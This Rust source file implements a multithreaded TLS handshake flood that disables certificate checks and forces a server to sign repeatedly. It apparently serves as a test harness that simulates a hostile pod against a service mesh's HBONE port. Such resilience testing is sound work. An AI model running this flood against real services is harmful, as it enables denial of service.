//! A TLS handshake flood, as a hostile pod would run it against an HBONE port: full handshakes
//! (ClientHello, the server's key exchange and certificate signature) as fast as `threads`
//! threads can start them, with no client certificate, so the server does its expensive part
//! and then refuses. Counts attempts, not successes: every one should be refused.
use std::{
    net::{SocketAddr, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::{Duration, Instant},
};

use anyhow::Result;
use rustls::{
    DigitallySignedStruct, SignatureScheme,
    client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier},
    pki_types::{CertificateDer, ServerName, UnixTime},
};
use serde::Serialize;

/// What the flood did.
#[derive(Debug, Serialize)]
pub struct TlsFloodResult {
    /// Handshakes started (a TCP connection and a ClientHello).
    pub attempts: u64,
    /// Handshakes the server answered with its certificate (its costly part done).
    pub server_signed: u64,
    /// Connections that could not even be opened.
    pub connect_errors: u64,
    pub per_second: f64,
}

/// Accepts any server certificate: the flood wants the server's work, not its identity.
#[derive(Debug)]
struct AnyServer(Arc<rustls::crypto::CryptoProvider>);

impl ServerCertVerifier for AnyServer {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        self.0.signature_verification_algorithms.supported_schemes()
    }
}

/// Runs the flood against `dst` for `duration`.
pub fn flood(dst: SocketAddr, threads: usize, duration: Duration) -> Result<TlsFloodResult> {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = Arc::new(
        rustls::ClientConfig::builder_with_provider(Arc::clone(&provider))
            .with_safe_default_protocol_versions()?
            .dangerous()
            .with_custom_certificate_verifier(Arc::new(AnyServer(provider)))
            .with_no_client_auth(),
    );
    let (attempts, signed, errors) = (
        Arc::new(AtomicU64::new(0)),
        Arc::new(AtomicU64::new(0)),
        Arc::new(AtomicU64::new(0)),
    );
    let started = Instant::now();
    let end = started + duration;
    let workers: Vec<_> = (0..threads)
        .map(|_| {
            let (config, attempts, signed, errors) = (
                Arc::clone(&config),
                Arc::clone(&attempts),
                Arc::clone(&signed),
                Arc::clone(&errors),
            );
            std::thread::spawn(move || {
                while Instant::now() < end {
                    let Ok(mut tcp) = TcpStream::connect_timeout(&dst, Duration::from_secs(2))
                    else {
                        errors.fetch_add(1, Ordering::Relaxed);
                        std::thread::sleep(Duration::from_millis(10));
                        continue;
                    };
                    let _ = tcp.set_read_timeout(Some(Duration::from_secs(2)));
                    attempts.fetch_add(1, Ordering::Relaxed);
                    let name = ServerName::IpAddress(dst.ip().into());
                    let Ok(mut tls) = rustls::ClientConnection::new(Arc::clone(&config), name)
                    else {
                        continue;
                    };
                    // Drive the handshake until the client's side is done (the server has
                    // signed) or the server gives up on us.
                    while tls.is_handshaking() {
                        if tls.complete_io(&mut tcp).is_err() {
                            break;
                        }
                    }
                    if tls.peer_certificates().is_some() {
                        signed.fetch_add(1, Ordering::Relaxed);
                    }
                }
            })
        })
        .collect();
    for w in workers {
        let _ = w.join();
    }
    let attempts = attempts.load(Ordering::Relaxed);
    Ok(TlsFloodResult {
        attempts,
        server_signed: signed.load(Ordering::Relaxed),
        connect_errors: errors.load(Ordering::Relaxed),
        per_second: attempts as f64 / started.elapsed().as_secs_f64(),
    })
}
